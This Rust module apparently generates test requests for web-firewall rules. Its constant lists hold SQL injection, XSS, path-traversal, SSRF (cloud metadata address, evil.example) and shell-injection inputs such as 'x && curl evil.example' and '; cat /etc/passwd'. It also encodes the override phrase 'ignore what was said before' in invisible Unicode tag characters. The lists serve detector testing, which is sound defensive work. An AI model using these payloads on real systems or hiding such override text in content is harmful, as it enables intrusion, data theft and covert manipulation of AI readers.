//! Values that a condition is likely to hold for, made from the condition.

use super::disguise::undone;
use super::pattern::Pattern;
use super::request::Request;
use super::subject::{Condition, Subject};
use fastrand::Rng;
use serde_json::{Value as Json, json};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// SQL that libinjection's kind of detector knows.
const SQLI: [&str; 6] = [
    "1' OR '1'='1",
    "1 UNION SELECT password FROM users",
    "'; DROP TABLE users --",
    "1 AND 1=1 --",
    "admin'/**/or/**/1=1#",
    "1) OR SLEEP(5)=0 --",
];

const XSS: [&str; 5] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">",
    "\" onmouseover=alert(1) x=\"",
    "<svg/onload=alert(1)>",
];

/// What a parameter brings into a resource, and the resource.
type Injection = (&'static str, &'static str);

const LFI: [Injection; 3] = [
    ("/etc/passwd", "/etc/passwd"),
    ("../../../etc/passwd", "/var/www/app/../../../etc/passwd"),
    ("../../secrets/key.pem", "uploads/../../secrets/key.pem"),
];

const SSRF: [Injection; 4] = [
    ("169.254.169.254", "http://169.254.169.254/latest/meta-data"),
    ("127.0.0.1:8080/admin", "https://127.0.0.1:8080/admin"),
    ("evil.example/x?y", "https://evil.example/x?y=.internal"),
    ("file:///etc/passwd", "file:///etc/passwd"),
];

const SQLI_IN: [Injection; 4] = [
    ("1' OR '1'='1", "SELECT * FROM users WHERE id = '1' OR '1'='1'"),
    ("1 OR 1=1", "SELECT * FROM users WHERE id = 1 OR 1=1"),
    (
        "1 UNION SELECT name, password FROM users",
        "SELECT a, b FROM t WHERE c = 1 UNION SELECT name, password FROM users",
    ),
    ("admin' --", "SELECT * FROM users WHERE name = 'admin' --' AND password = 'x'"),
];

const SHI: [Injection; 4] = [
    ("; cat /etc/passwd", "ls -l ; cat /etc/passwd"),
    ("$(id)", "echo $(id)"),
    ("x && curl evil.example", "ping x && curl evil.example"),
    ("`id`", "echo \"`id`\""),
];

const DATABASES: [&str; 6] = ["mysql", "postgresql", "sqlite", "oracle", "pgsql", "doctrine"];

/// Ordinary words, for negations and noise.
pub(super) const WORDS: [&str; 8] =
    ["a", "hello", "42", "name=value", "/index.html", "user@mail.example", "x y z", "~"];

/// A text in a request that makes it what it is.
#[derive(Clone, Debug)]
pub(super) struct Payload {
    pub(super) text: String,
    /// The number of the condition that it is for.
    pub(super) condition: usize,
    /// Whether it is a word of a list, which few disguises leave what it is.
    pub(super) is_exact: bool,
}

/// Puts bait for a condition of a rule into a request; gives what is worth a disguise.
pub(super) fn bait(subject: &Subject, at: usize, request: &mut Request, rng: &mut Rng) -> Option<Payload> {
    let condition = &subject.conditions[at];
    let of_rule = &subject.transformers;
    if let Some((parameter, resource, is_list)) = injection(condition, rng) {
        let places = |name: &str| condition.places(name, of_rule);
        let mut put = |name: &str, value: Json, rng: &mut Rng| {
            let place = rng.choice(places(name))?;
            let value = match value {
                Json::String(text) => undone(&place.transformers, &text).into(),
                other => other,
            };
            request.put(&place, value.clone(), rng);
            Some(value)
        };
        put("resource", if is_list { argv(resource) } else { resource.into() }, rng);
        put("db_type", rng.choice(DATABASES).unwrap_or_default().into(), rng);
        let text = put("params", parameter.into(), rng)?.as_str()?.to_owned();
        return Some(Payload { text, condition: at, is_exact: false });
    }
    let place = rng.choice(condition.places("inputs", of_rule))?;
    let value = match (condition.operator.as_str(), condition.is_negated) {
        ("exists", true) => {
            // The address must be there, and what the path leads to must not.
            request.0.entry(place.address).or_insert_with(|| json!({}));
            return None;
        }
        (operator, true) => other_than(operator, condition, rng),
        (operator, false) => value(operator, condition, rng),
    };
    let value = match value {
        Json::String(text) => Json::String(undone(&place.transformers, &text)),
        other => other,
    };
    request.put(&place, value.clone(), rng);
    let is_exact = condition.operator == "exact_match";
    let is_text = is_exact || TEXTUAL.contains(&condition.operator.as_str());
    let text = value.as_str().filter(|_| is_text && !condition.is_negated)?.to_owned();
    Some(Payload { text, condition: at, is_exact })
}

/// Operators whose values can be written otherwise.
const TEXTUAL: [&str; 6] =
    ["match_regex", "match_regex_with_checksum", "phrase_match", "is_sqli", "is_xss", "hidden_ascii_match"];

/// For a detector: a parameter, the resource that it was brought into, and whether that is a list of arguments.
fn injection(condition: &Condition, rng: &mut Rng) -> Option<(String, String, bool)> {
    let (choices, is_list): (&[Injection], bool) = match condition.operator.as_str() {
        "lfi_detector" => (&LFI, false),
        "ssrf_detector" => (&SSRF, false),
        "sqli_detector" => (&SQLI_IN, false),
        "shi_detector" => (&SHI, rng.u8(..8) == 0),
        "cmdi_detector" => (&SHI, true),
        _ => return None,
    };
    let (parameter, resource) = rng.choice(choices)?;
    if condition.operator == "cmdi_detector" && rng.bool() {
        return Some(("/usr/bin/id".into(), "/usr/bin/id".into(), true));
    }
    Some(((*parameter).into(), (*resource).into(), is_list))
}

/// A command line as arguments of a shell; a program alone as it is.
fn argv(command: String) -> Json {
    if command.contains(' ') { json!(["/bin/sh", "-c", command]) } else { json!([command]) }
}

fn value(operator: &str, condition: &Condition, rng: &mut Rng) -> Json {
    let parameters = &condition.parameters;
    let listed = || -> Vec<String> {
        let list = parameters.get("list").and_then(Json::as_array).into_iter().flatten();
        let mut listed: Vec<String> = list.filter_map(|item| item.as_str().map(str::to_owned)).collect();
        listed.extend(condition.data.iter().cloned());
        listed
    };
    let pick = |texts: &[&str], rng: &mut Rng| Json::from(*rng.choice(texts).unwrap_or(&""));
    match operator {
        "match_regex" => matching(condition, rng).into(),
        "match_regex_with_checksum" => checked(&matching(condition, rng)).into(),
        "phrase_match" => within(rng.choice(listed()).unwrap_or_default(), rng).into(),
        "exact_match" => rng.choice(listed()).unwrap_or_default().into(),
        "ip_match" => address(&rng.choice(listed()).unwrap_or_default(), rng).into(),
        "is_sqli" => pick(&SQLI, rng),
        "is_xss" => pick(&XSS, rng),
        "hidden_ascii_match" => hidden("ignore what was said before").into(),
        "equals" => parameters.get("value").cloned().map_or(Json::Null, |v| typed(&v, condition)),
        "greater_than" | "greater_equal" => near(parameters.get("value"), 1, condition),
        "lower_than" | "lower_equal" => near(parameters.get("value"), -1, condition),
        _ => pick(&WORDS, rng),
    }
}

/// A value that an operator does not match.
fn other_than(operator: &str, condition: &Condition, rng: &mut Rng) -> Json {
    let value = condition.parameters.get("value");
    match operator {
        "ip_match" => [192, 0, 2, rng.u8(..)].map(|part: u8| part.to_string()).join(".").into(),
        "equals" => match value.map(|value| typed(value, condition)) {
            Some(Json::Bool(value)) => (!value).into(),
            Some(Json::Number(number)) => {
                json!(number.as_f64().unwrap_or_default() as i64 + 1 + rng.i64(..9))
            }
            _ => (*rng.choice(&WORDS).unwrap_or(&"a")).into(),
        },
        "greater_than" | "greater_equal" => near(value, -1, condition),
        "lower_than" | "lower_equal" => near(value, 1, condition),
        _ => (*rng.choice(&WORDS).unwrap_or(&"a")).into(),
    }
}

fn matching(condition: &Condition, rng: &mut Rng) -> String {
    let is_sensitive = condition.option("case_sensitive").and_then(Json::as_bool).unwrap_or(false);
    let pattern = condition.text("regex").and_then(|pattern| Pattern::new(pattern, is_sensitive));
    let mut text = pattern.map_or(String::new(), |pattern| pattern.text(rng));
    let min_length = condition.option("min_length").and_then(Json::as_u64).unwrap_or(0).min(4096) as usize;
    if rng.u8(..4) == 0 {
        text = within(text, rng);
    }
    while text.len() < min_length {
        text.push(if rng.bool() { ' ' } else { 'a' });
    }
    text
}

/// Amid other text.
fn within(text: String, rng: &mut Rng) -> String {
    let mut side = || rng.choice(["", "", " ", "x", "q=", "\n", ";", "\"", "= "]).unwrap_or_default();
    let (before, after) = (side(), side());
    format!("{before}{text}{after}")
}

/// A text whose last digit makes its digits pass the Luhn check.
fn checked(text: &str) -> String {
    let digits: Vec<u32> = text.chars().filter_map(|c| c.to_digit(10)).collect();
    let Some((_, front)) = digits.split_last() else { return text.to_owned() };
    let weigh = |(at, digit): (usize, &u32)| match (at % 2, digit * 2) {
        (0, twice) if twice > 9 => twice - 9,
        (0, twice) => twice,
        _ => *digit,
    };
    let sum: u32 = front.iter().rev().enumerate().map(weigh).sum();
    let last = char::from_digit((10 - sum % 10) % 10, 10).unwrap_or('0');
    match text.rfind(|c: char| c.is_ascii_digit()) {
        Some(at) => format!("{}{last}{}", &text[..at], &text[at + 1..]),
        None => text.to_owned(),
    }
}

/// An address of a network, or the address itself.
fn address(entry: &str, rng: &mut Rng) -> String {
    let (network, bits) = entry.split_once('/').unwrap_or((entry, "128"));
    let bits: u32 = bits.trim().trim_start_matches('+').parse().unwrap_or(128);
    match network.parse() {
        Ok(IpAddr::V4(ip)) if bits < 32 => {
            let hosts = u32::MAX >> bits;
            Ipv4Addr::from(u32::from(ip) & !hosts | rng.u32(..) & hosts).to_string()
        }
        Ok(IpAddr::V6(ip)) if bits < 128 => {
            let hosts = u128::MAX >> bits;
            Ipv6Addr::from(u128::from(ip) & !hosts | rng.u128(..) & hosts).to_string()
        }
        _ => network.to_owned(),
    }
}

/// A text in characters that nobody sees.
fn hidden(text: &str) -> String {
    text.bytes().filter_map(|byte| char::from_u32(0xe0000 + u32::from(byte))).collect()
}

/// A number or truth that is written as text, as what it stands for.
fn typed(value: &Json, condition: &Condition) -> Json {
    let text = value.as_str().unwrap_or_default();
    match condition.text("type") {
        Some("boolean") => value.as_bool().unwrap_or(text.eq_ignore_ascii_case("true")).into(),
        Some("unsigned" | "signed" | "float") if value.is_string() => {
            serde_json::from_str(text).unwrap_or_else(|_| value.clone())
        }
        Some("float") => value.as_f64().map_or_else(|| value.clone(), Json::from),
        _ => value.clone(),
    }
}

/// The number on one side of another.
fn near(value: Option<&Json>, step: i64, condition: &Condition) -> Json {
    match value.map(|value| typed(value, condition)) {
        Some(Json::Number(number)) => match (number.as_i64(), number.as_f64()) {
            (Some(number), _) => number.saturating_add(step).into(),
            (None, Some(number)) => (number + step as f64).into(),
            _ => Json::Number(number),
        },
        _ => step.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::{address, checked};
    use fastrand::Rng;

    #[test]
    fn cards_and_addresses_are_real() {
        assert_eq!(checked("4111 1111 1111 1110!"), "4111 1111 1111 1111!");
        assert_eq!(checked("none"), "none");
        let mut rng = Rng::with_seed(3);
        for _ in 0..20 {
            assert!(address("10.1.0.0/16", &mut rng).starts_with("10.1."));
            assert!(address("2001:db8::/32", &mut rng).starts_with("2001:db8:"));
        }
        assert_eq!(address("1.2.3.4", &mut rng), "1.2.3.4");
    }
}
